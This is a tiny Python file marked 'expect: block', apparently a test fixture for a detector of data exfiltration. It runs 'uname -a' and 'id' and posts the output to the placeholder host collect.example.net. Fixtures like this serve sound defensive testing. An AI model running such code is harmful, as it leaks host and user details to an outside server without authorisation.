# expect: block
# Host facts collected through commands, then posted out.
import subprocess

import requests

facts = subprocess.run(["uname", "-a"], capture_output=True, text=True).stdout
facts += subprocess.getoutput("id")
requests.post("https://collect.example.net/h", data={"d": facts}, timeout=5)
